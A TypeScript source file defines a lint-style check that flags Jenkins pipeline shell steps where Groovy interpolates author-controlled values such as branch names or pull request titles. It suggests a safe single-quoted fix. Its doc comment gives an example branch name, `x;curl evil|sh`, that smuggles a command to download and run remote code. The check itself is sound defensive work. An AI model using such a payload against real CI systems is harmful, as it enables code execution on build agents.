import type { RawFinding } from "../../review/types.js";
import { defineCheck } from "../define.js";
import { ciFinding } from "./common.js";
import { jenkinsModelOf } from "./model.js";

/**
 * `sh "git checkout ${env.CHANGE_BRANCH}"`: Groovy pastes the value into the
 * script before the shell sees it, so a branch named `x;curl evil|sh` runs.
 * In a multibranch pipeline the pull request's author chooses the branch
 * name, the title and their own display name and e-mail; build parameters
 * come from whoever starts the build. Single-quoted strings do not
 * interpolate (the shell then expands `$CHANGE_BRANCH` as data, safely quoted
 * or not), so they are never reported.
 */
const RULE = "ci/jenkins-groovy-interpolation";

/** Environment values a pull request's author (or a pusher) controls in multibranch pipelines. */
const AUTHOR_CONTROLLED =
  "CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR|CHANGE_AUTHOR_DISPLAY_NAME|CHANGE_AUTHOR_EMAIL|CHANGE_FORK|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME|gitlabSourceBranch|gitlabMergeRequestTitle|ghprbPullTitle|ghprbSourceBranch|ghprbPullDescription";
const UNTRUSTED = new RegExp(
  String.raw`^(?:env\s*(?:\.\s*|\[\s*['"])(?:${AUTHOR_CONTROLLED})\b|(?:${AUTHOR_CONTROLLED})\b|params\s*(?:\.\s*[A-Za-z_]|\[\s*['"])|currentBuild\s*\.\s*(?:description|displayName)\b)`,
);

export function untrustedExpression(expression: string): boolean {
  return UNTRUSTED.test(expression);
}

export const jenkinsGroovyInterpolation = defineCheck({
  kind: "snapshot",
  name: "ci/jenkins-groovy-interpolation",
  families: ["ci"],
  rules: [RULE],
  run(file) {
    const model = jenkinsModelOf(file);
    if (!model) return [];
    const out: RawFinding[] = [];
    for (const step of model.steps) {
      if (!step.literal.interpolates) continue;
      for (const i of step.literal.interpolations) {
        if (!untrustedExpression(i.expression)) continue;
        const written = i.braced ? `\${${i.expression}}` : `$${i.expression}`;
        out.push(
          ciFinding({
            ruleId: RULE,
            at: model.position(i.start),
            message: `\`${written}\` is pasted by Groovy into the \`${step.step}\` script (${step.scope}) before the shell runs: a value someone else chooses (a branch name, a pull request title, a build parameter) becomes commands on the agent.`,
            fix: `Use a single-quoted string and let the shell read the value from the environment, quoted: \`${step.step} 'git checkout "$${i.expression.replace(/^env\s*\.\s*/, "").replace(/^params\s*\.\s*/, "")}"'\` (pass parameters with \`withEnv\`).`,
            anchor: `jenkins/${step.scope}/${step.step}/${i.expression}|${step.text}`,
          }),
        );
      }
    }
    return out;
  },
});
